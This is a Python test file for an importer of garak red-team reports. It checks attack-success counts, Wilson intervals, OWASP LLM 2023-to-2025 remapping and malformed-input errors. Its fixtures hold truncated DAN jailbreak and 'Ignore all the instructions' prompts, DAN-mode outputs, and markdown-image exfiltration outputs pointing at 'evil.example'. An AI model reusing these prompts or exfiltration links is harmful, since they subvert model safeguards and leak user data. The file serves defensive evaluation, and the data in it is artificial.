"""garak report import: reports written here by hand in garak's documented JSON Lines format (garak 0.16).

The entries follow garak's own code: ``Attempt.as_dict()`` (garak/attempt.py) for attempts, written with
status 1 after probing and status 2 after detection (garak/harnesses/base.py), ``eval`` entries from
garak/evaluators/base.py, ``plugin_cache`` with probe tags, ``init``/``start_run setup``/``completion``
from garak/command.py.
"""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from statsmodels.stats.proportion import proportion_confint

from charter.redteam.imports import import_file
from charter.redteam.imports.common import (
    Crosswalk,
    CrosswalkInvalid,
    ReportInvalid,
    crosswalk_path,
    new_attempts,
    observations,
    parse_owasp_id,
)
from charter.redteam.imports.garak import parse_garak_file, parse_garak_report

# /work/shared/catalogs/owasp-llm-top10/owasp_llm_2023_to_2025_mapping.csv (id_2023, id_2025, relation)
CROSSWALK_ROWS = [
    ("LLM01:2023", "LLM01:2025", "equivalent"),
    ("LLM02:2023", "LLM05:2025", "equivalent"),
    ("LLM03:2023", "LLM04:2025", "equivalent"),
    ("LLM04:2023", "LLM10:2025", "equivalent"),
    ("LLM05:2023", "LLM03:2025", "equivalent"),
    ("LLM06:2023", "LLM02:2025", "equivalent"),
    ("LLM07:2023", "LLM06:2025", "partial"),
    ("LLM07:2023", "LLM05:2025", "partial"),
    ("LLM08:2023", "LLM06:2025", "equivalent"),
    ("LLM09:2023", "LLM09:2025", "partial"),
    ("LLM10:2023", "LLM10:2025", "partial"),
    ("LLM10:2023", "LLM03:2025", "partial"),
]
EXPECTED_2025 = {
    "owasp:llm01": ["LLM01:2025"],
    "owasp:llm02": ["LLM05:2025"],
    "owasp:llm03": ["LLM04:2025"],
    "owasp:llm04": ["LLM10:2025"],
    "owasp:llm05": ["LLM03:2025"],
    "owasp:llm06": ["LLM02:2025"],
    "owasp:llm07": ["LLM05:2025", "LLM06:2025"],
    "owasp:llm08": ["LLM06:2025"],
    "owasp:llm09": ["LLM09:2025"],
    "owasp:llm10": ["LLM03:2025", "LLM10:2025"],
}
CROSSWALK_YAML = yaml.safe_dump(
    {"mappings": [{"id_2023": a, "id_2025": b, "relation": r, "reason": "..."} for a, b, r in CROSSWALK_ROWS]}
)
WALK = Crosswalk.from_yaml_text(CROSSWALK_YAML, "owasp-llm-2023-to-2025.yaml")
MAPPING_CSV = Path("/work/shared/catalogs/owasp-llm-top10/owasp_llm_2023_to_2025_mapping.csv")


# ----------------------------------------------------------------------------- writing garak's format


def message(text: str | None) -> dict[str, Any]:
    return {"text": text, "lang": "en", "data_path": None, "data_type": None, "data_checksum": None, "notes": {}}


def conversation(prompt: str, output: str | None = None) -> dict[str, Any]:
    turns = [{"role": "user", "content": message(prompt)}]
    if output is not None:
        turns.append({"role": "assistant", "content": message(output)})
    return {"turns": turns, "notes": {}}


def attempt(
    uuid: str, seq: int, status: int, probe: str, prompt: str, outputs: list[str | None], results: dict[str, list[Any]]
) -> dict[str, Any]:
    return {
        "entry_type": "attempt",
        "uuid": uuid,
        "seq": seq,
        "status": status,
        "probe_classname": probe,
        "probe_params": {},
        "targets": [],
        "prompt": conversation(prompt),
        "outputs": [message(o) if o is not None else None for o in outputs],
        "detector_results": results if status == 2 else {},
        "notes": {},
        "goal": f"goal of {probe}",
        "conversations": [conversation(prompt, o) for o in outputs],
        "reverse_translation_outputs": [],
        "intent": None,
    }


def report(
    attempts: list[tuple[str, str, str, list[str | None], dict[str, list[Any]]]],
    tags: dict[str, list[str]],
    evals: bool = True,
) -> str:
    """A garak report: setup, init, plugin_cache, per probe its status-1 then status-2 attempts and evals, the end."""
    lines: list[dict[str, Any]] = [
        {
            "entry_type": "start_run setup",
            "_config.version": "0.16.0",
            "plugins.target_type": "openai",
            "plugins.target_name": "gpt-4o-mini",
            "run.generations": 2,
        },
        {"entry_type": "init", "garak_version": "0.16.0", "start_time": "2026-05-01T10:00:00", "run": "2f0c5b0e-run"},
        {
            "entry_type": "plugin_cache",
            "run": "2f0c5b0e-run",
            "plugin_cache": {
                "version": "0.16.0",
                "probes": {f"probes.{p}": {"description": p, "tags": t, "tier": 1} for p, t in tags.items()},
                "detectors": {},
            },
        },
    ]
    probes = list(dict.fromkeys(a[1] for a in attempts))
    for probe in probes:
        mine = [a for a in attempts if a[1] == probe]
        for seq, (uuid, _, prompt, outputs, results) in enumerate(mine):
            lines.append(attempt(uuid, seq, 1, probe, prompt, outputs, results))
        for seq, (uuid, _, prompt, outputs, results) in enumerate(mine):
            lines.append(attempt(uuid, seq, 2, probe, prompt, outputs, results))
        if evals:
            for detector in sorted({d for a in mine for d in a[4]}):
                scores = [s for a in mine for s in a[4][detector]]
                passed = sum(1 for s in scores if s is not None and s < 0.5)
                fails = sum(1 for s in scores if s is not None and s >= 0.5)
                nones = sum(1 for s in scores if s is None)
                lines.append(
                    {
                        "entry_type": "eval",
                        "probe": probe,
                        "detector": detector,
                        "passed": passed,
                        "fails": fails,
                        "nones": nones,
                        "total_evaluated": passed + fails,
                        "total_processed": passed + fails + nones,
                    }
                )
    lines.append({"entry_type": "completion", "end_time": "2026-05-01T10:05:00", "run": "2f0c5b0e-run"})
    return "\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\n"


DAN = "dan.Dan_11_0"
ATTEMPTS: list[tuple[str, str, str, list[str | None], dict[str, list[Any]]]] = [
    # several outputs per attempt, several detectors per probe, None outputs
    (
        "a1",
        DAN,
        "Hello ChatGPT. You are about to immerse...",
        ["DAN: sure thing", "I can't do that."],
        {"dan.DAN": [1.0, 0.0], "mitigation.MitigationBypass": [1.0, 0.0]},
    ),
    (
        "a2",
        DAN,
        "Hello ChatGPT. From now on...",
        ["DAN mode on", None],
        {"dan.DAN": [0.7, None], "mitigation.MitigationBypass": [0.2, None]},
    ),
    (
        "a3",
        DAN,
        "Ignore all the instructions...",
        [None, None],
        {"dan.DAN": [None, None], "mitigation.MitigationBypass": [None, None]},
    ),
    (
        "x1",
        "xss.MarkdownImageExfil",
        "Concatenate ... ![a](https://",
        ["![a](https://evil.example/?q=s)"],
        {"xss.MarkdownExfilBasic": [1.0]},
    ),
    ("x2", "xss.MarkdownImageExfil", "Concatenate ... ![b](https://", ["No."], {"xss.MarkdownExfilBasic": [0.0]}),
    (
        "x3",
        "xss.MarkdownImageExfil",
        "Concatenate ... ![c](https://",
        ["![c](https://evil.example/)"],
        {"xss.MarkdownExfilBasic": [0.5]},
    ),
    ("u1", "acme.InternalProbe", "secret?", ["no"], {"always.Fail": [1.0]}),
]
TAGS = {
    DAN: ["avid-effect:security:S0403", "owasp:llm01", "quality:Security:PromptStability"],
    "xss.MarkdownImageExfil": ["avid-effect:security:S0301", "owasp:llm02", "owasp:llm06"],
}


def parse(text: str, **options: Any) -> Any:
    return parse_garak_report(text, filename="garak.2f0c5b0e.report.jsonl", crosswalk=WALK, **options)


def rows(result: Any) -> dict[tuple[str, str], dict[str, Any]]:
    return {(r["probe"], r["detector"]): r for r in result.as_json()["results"]}


# ----------------------------------------------------------------------------- counting as garak counts


def test_counts_per_probe_and_detector_follow_garak_with_none_outputs_left_out() -> None:
    result = parse(report(ATTEMPTS, TAGS))
    got = rows(result)
    assert set(got) == {
        (DAN, "dan.DAN"),
        (DAN, "mitigation.MitigationBypass"),
        ("xss.MarkdownImageExfil", "xss.MarkdownExfilBasic"),
        ("acme.InternalProbe", "always.Fail"),
    }
    dan = got[DAN, "dan.DAN"]
    assert (dan["passed"], dan["fails"], dan["nones"], dan["total"]) == (1, 2, 3, 3)
    assert dan["attack_success_rate"] == pytest.approx(2 / 3)
    assert dan["asr_wilson95"] == pytest.approx(list(proportion_confint(2, 3, method="wilson")), abs=1e-12)
    assert dan["owasp_2025_ids"] == ["LLM01:2025"]
    bypass = got[DAN, "mitigation.MitigationBypass"]
    assert (bypass["passed"], bypass["fails"], bypass["nones"], bypass["total"]) == (2, 1, 3, 3)
    xss = got["xss.MarkdownImageExfil", "xss.MarkdownExfilBasic"]
    assert (xss["passed"], xss["fails"], xss["total"]) == (1, 2, 3)  # 0.5 is a hit
    assert xss["owasp_2025_ids"] == ["LLM02:2025", "LLM05:2025"]  # 2023 LLM02 + LLM06, remapped
    assert result.warnings == ("1 probe(s) without an OWASP classification, kept as unclassified: acme.InternalProbe",)
    assert result.meta["garak_version"] == "0.16.0" and result.meta["target_name"] == "gpt-4o-mini"


def test_unknown_probes_are_kept_and_flagged_unclassified() -> None:
    result = parse(report(ATTEMPTS, TAGS))
    unknown = rows(result)["acme.InternalProbe", "always.Fail"]
    assert unknown["unclassified"] is True and unknown["owasp_2025_ids"] == [] and unknown["fails"] == 1
    assert result.as_json()["unclassified_probes"] == ["acme.InternalProbe"]
    # an integrator-supplied tag table classifies probes of reports that carry no plugin_cache
    tagged = parse(report(ATTEMPTS, TAGS), probe_tags={"acme.InternalProbe": ["owasp:llm10"]})
    assert rows(tagged)["acme.InternalProbe", "always.Fail"]["owasp_2025_ids"] == ["LLM03:2025", "LLM10:2025"]


def test_per_probe_observations_count_outputs_any_detector_hit() -> None:
    result = parse(report(ATTEMPTS, TAGS))
    when = datetime(2026, 5, 1, tzinfo=UTC)
    got = {o.probe: (o.evaluated, o.hits) for o in observations(result.attempts, run_id="imp", finished_at=when)}
    # dan: outputs "DAN: sure thing" (hit), "I can't" (pass), "DAN mode on" (hit); None outputs left out
    assert got == {DAN: (3, 2), "xss.MarkdownImageExfil": (3, 2), "acme.InternalProbe": (1, 1)}


def test_only_scored_status_2_attempts_are_imported_each_with_its_outputs() -> None:
    result = parse(report(ATTEMPTS, TAGS))
    assert len(result.attempts) == len(ATTEMPTS)
    a1 = next(a for a in result.attempts if a.attempt_id == "a1")
    assert a1.outputs == ("DAN: sure thing", "I can't do that.")
    assert a1.scores["dan.DAN"] == (1.0, 0.0) and a1.prompt.startswith("Hello ChatGPT") and a1.hit
    assert a1.goal == f"goal of {DAN}"


# ----------------------------------------------------------------------------- idempotency


def test_reimporting_the_same_report_adds_nothing() -> None:
    text = report(ATTEMPTS, TAGS)
    first, second = parse(text), parse(text)
    stored = {a.dedup_key for a in first.attempts}
    assert len(stored) == len(ATTEMPTS)
    assert new_attempts(second.attempts, stored) == []
    other_run = parse(text.replace('"uuid": "a1"', '"uuid": "b1"'))
    assert [a.attempt_id for a in new_attempts(other_run.attempts, stored)] == ["b1"]


def test_a_repeated_line_in_one_file_counts_once_and_a_reused_id_with_new_content_is_flagged() -> None:
    text = report(ATTEMPTS, TAGS)
    status2 = next(line for line in text.splitlines() if '"status": 2' in line and '"uuid": "x1"' in line)
    doubled = parse(text + status2 + "\n")
    assert doubled.duplicates == 1
    assert rows(doubled) == rows(parse(text))
    changed = parse(text + status2.replace("evil.example", "other.example") + "\n")
    assert any("attempt x1 appears again with different content" in w for w in changed.warnings)


# ----------------------------------------------------------------------------- the OWASP crosswalk


@pytest.mark.parametrize("tag", sorted(EXPECTED_2025))
def test_every_owasp_2023_id_in_the_crosswalk_is_remapped_to_2025(tag: str) -> None:
    text = report([("t1", "probe.Tagged", "p", ["o"], {"d.D": [1.0]})], {"probe.Tagged": [tag]})
    assert rows(parse(text))["probe.Tagged", "d.D"]["owasp_2025_ids"] == EXPECTED_2025[tag]


def test_the_crosswalk_covers_all_ten_2023_ids_and_matches_the_catalog_csv() -> None:
    assert WALK.ids_2023() == tuple(f"LLM{n:02d}:2023" for n in range(1, 11))
    assert {f"owasp:llm{oid[3:5]}": list(WALK.to_2025(oid)) for oid in WALK.ids_2023()} == EXPECTED_2025
    if MAPPING_CSV.exists():
        with MAPPING_CSV.open(encoding="utf-8") as f:
            assert [(r["id_2023"], r["id_2025"], r["relation"]) for r in csv.DictReader(f)] == CROSSWALK_ROWS


@pytest.mark.skipif(not crosswalk_path().exists(), reason="the shipped crosswalk is not written yet")
def test_the_shipped_crosswalk_maps_like_the_catalog() -> None:
    shipped = Crosswalk.from_file(crosswalk_path())
    assert {oid: shipped.to_2025(oid) for oid in shipped.ids_2023()} == {
        oid: WALK.to_2025(oid) for oid in WALK.ids_2023()
    }


def test_owasp_ids_are_parsed_in_every_spelling_and_a_bare_id_needs_its_year() -> None:
    assert parse_owasp_id("owasp:llm07") == "LLM07:2023"
    assert parse_owasp_id("LLM07:2025") == "LLM07:2025"
    assert parse_owasp_id("llm10:2023") == "LLM10:2023"
    assert parse_owasp_id("avid-effect:security:S0403") is None
    assert parse_owasp_id("LLM01", default_year="2025") == "LLM01:2025"
    with pytest.raises(ValueError, match="write LLM01:2025 or LLM01:2023"):
        parse_owasp_id("LLM01")


def test_a_malformed_crosswalk_is_refused() -> None:
    with pytest.raises(CrosswalkInvalid, match=r"mappings\[0\].id_2025: expected an id like 'LLM01:2025'"):
        Crosswalk.from_yaml_text("mappings: [{id_2023: LLM01:2023, id_2025: LLM01, relation: equivalent}]")
    with pytest.raises(CrosswalkInvalid, match="relation: expected equivalent, partial or none"):
        Crosswalk.from_yaml_text("mappings: [{id_2023: LLM01:2023, id_2025: LLM01:2025, relation: same}]")


# ----------------------------------------------------------------------------- bad input names the line


def test_a_truncated_line_is_named() -> None:
    text = report(ATTEMPTS, TAGS)
    lines = text.splitlines()
    cut = "\n".join([*lines[:8], lines[8][: len(lines[8]) // 2]])
    with pytest.raises(ReportInvalid) as err:
        parse(cut)
    assert str(err.value).startswith("garak.2f0c5b0e.report.jsonl:9: not valid JSON (")
    assert "cut off" in str(err.value)


@pytest.mark.parametrize(
    ("bad_line", "message"),
    [
        ("probe,detector,score", "not JSON (a CSV row? use --format csv"),
        ('{"goal": "g", "attempt_id": "a", "detector": "d", "score": 1.0}', "a garak hit log line"),
        ('{"id": "p1", "role": "user"}', "not a garak report entry (no 'entry_type')"),
        ('["a", "b"]', "expected a JSON object"),
        (
            json.dumps(attempt("z", 0, 2, DAN, "p", ["a", "b"], {"dan.DAN": [1.0]})),
            "detector_results['dan.DAN'] has 1 score(s) for 2 output(s)",
        ),
        (json.dumps(attempt("z", 0, "2", DAN, "p", ["a"], {})), "attempt 'status' must be 0, 1 or 2, got '2'"),  # type: ignore[arg-type]
        (
            json.dumps(attempt("z", 0, 2, DAN, "p", ["a"], {"dan.DAN": ["high"]})),
            "expected numbers or null, got 'high'",
        ),
    ],
)
def test_a_line_of_another_format_is_named(bad_line: str, message: str) -> None:
    lines = report(ATTEMPTS, TAGS).splitlines()
    lines.insert(5, bad_line)
    with pytest.raises(ReportInvalid) as err:
        parse("\n".join(lines))
    assert str(err.value).startswith("garak.2f0c5b0e.report.jsonl:6: ")
    assert message in str(err.value)


def test_a_pyrit_export_or_an_empty_file_is_refused_with_a_hint() -> None:
    with pytest.raises(ReportInvalid, match=":1: this is a JSON array, not garak JSON Lines"):
        parse('[\n  {"id": "p1"}\n]')
    with pytest.raises(ReportInvalid, match="empty: no garak report entries"):
        parse("\n\n")


def test_unscored_attempts_and_disagreeing_evals_are_reported() -> None:
    lines = report(ATTEMPTS, TAGS).splitlines()
    lines.insert(4, json.dumps(attempt("lost", 9, 1, DAN, "p", ["o"], {})))  # status 1, never scored
    eval_index = next(i for i, line in enumerate(lines) if '"entry_type": "eval"' in line and '"dan.DAN"' in line)
    wrong = json.loads(lines[eval_index]) | {"passed": 5}
    lines[eval_index] = json.dumps(wrong)
    result = parse("\n".join(lines))
    assert "1 attempt(s) have no status-2 entry (never scored: the run stopped early?); not counted" in result.warnings
    assert any(
        w.startswith(f"line {eval_index + 1}: garak's eval for {DAN} / dan.DAN says 5 passed, 2 failed")
        for w in result.warnings
    )
    assert rows(result)[DAN, "dan.DAN"]["passed"] == 1  # the attempts win


def test_a_garak_0_9_report_with_plain_string_prompts_and_outputs_is_read() -> None:
    entry = {
        "entry_type": "attempt",
        "uuid": "old",
        "seq": 0,
        "status": 2,
        "probe_classname": "encoding.InjectBase64",
        "probe_params": {},
        "targets": [],
        "prompt": "decode: aGVsbG8=",
        "outputs": ["hello", None],
        "detector_results": {"encoding.DecodeMatch": [1.0, None]},
        "notes": {},
        "goal": "decode",
        "messages": [],
    }
    result = parse(
        json.dumps({"entry_type": "init", "garak_version": "0.9.0.16", "start_time": "t", "run": "r"})
        + "\n"
        + json.dumps(entry)
    )
    (row,) = result.as_json()["results"]
    assert (row["fails"], row["nones"], row["total"]) == (1, 1, 1)


def test_import_from_a_file_with_the_format_dispatcher(tmp_path: Path) -> None:
    path = tmp_path / "garak.run.report.jsonl"
    path.write_text(report(ATTEMPTS, TAGS), encoding="utf-8")
    result = import_file("garak", path, crosswalk=WALK)
    assert result.file == "garak.run.report.jsonl" and len(result.attempts) == len(ATTEMPTS)
    assert rows(result) == rows(parse_garak_file(path, crosswalk=WALK))
    with pytest.raises(ReportInvalid, match="unknown format 'burp'; allowed: garak, pyrit, csv"):
        import_file("burp", path)
    (tmp_path / "bad.jsonl").write_bytes(b"\xff\xfe{")
    with pytest.raises(ReportInvalid, match=re.escape("bad.jsonl: not UTF-8 text")):
        parse_garak_file(tmp_path / "bad.jsonl", crosswalk=WALK)
